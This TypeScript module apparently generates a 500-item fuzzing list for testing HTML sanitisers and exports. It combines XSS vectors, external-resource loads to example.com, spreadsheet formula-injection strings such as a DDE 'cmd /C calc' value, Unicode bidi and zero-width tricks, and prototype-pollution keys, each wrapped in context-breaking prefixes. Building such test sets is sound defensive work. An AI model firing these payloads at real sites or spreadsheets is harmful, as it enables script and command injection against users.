const CALL = "window.ran=1";

const CORES: readonly string[] = [
  `<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="javascript:${CALL}">x</a>`, `<body onload=${CALL}>`, `<details open ontoggle=${CALL}>x</details>`, `<math href="javascript:${CALL}">x</math>`, `<style>@import "https://example.com/x.css";</style>`,
  `<link rel=stylesheet href=https://example.com/x.css>`, `<base href=https://example.com/>`, `<meta http-equiv=refresh content="0;url=https://example.com/">`, `<form action=https://example.com/><button>x</button></form>`,
  `<object data=https://example.com/x></object>`, `<embed src=https://example.com/x>`, `<video src=https://example.com/x onerror=${CALL}></video>`, `<input autofocus onfocus=${CALL}>`, `<template><script>${CALL}</script></template>`,
  `<b style="background:url(https://example.com/x)">x</b>`, `<img src="https://example.com/pixel.gif">`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `%{x}`, `%{customdata[0]}`, `<sup>1</sup>`, `<br>`, `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`, `=HYPERLINK("https://example.com","x")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, `\t=1+1`, `\r=1+1`, `=1+1`, `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`, `&#60;script&#62;`, `\u202eevil`, `\u2066hidden\u2069`, `\u200bzero`, `__proto__`, `constructor`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `\ufeff=1+1`, `${"A".repeat(300)}`,
];

const WRAPPINGS: readonly ((core: string) => string)[] = [
  (core) => core, (core) => `"${core}`, (core) => `'>${core}`, (core) => `"/>${core}<x a="`, (core) => `</script>${core}`, (core) => `</style>${core}`, (core) => `</title>${core}`, (core) => `</svg>${core}`,
  (core) => `--></td></table>${core}`, (core) => `\`${core}`,
];

/** Five hundred texts that try to run, to load, to hide or to be a formula; each is told from the others by its number. */
export const payloads: readonly string[] = CORES.flatMap((core) => WRAPPINGS.map((wrap) => wrap(core))).map((text, i) => `${text} #${i}`);
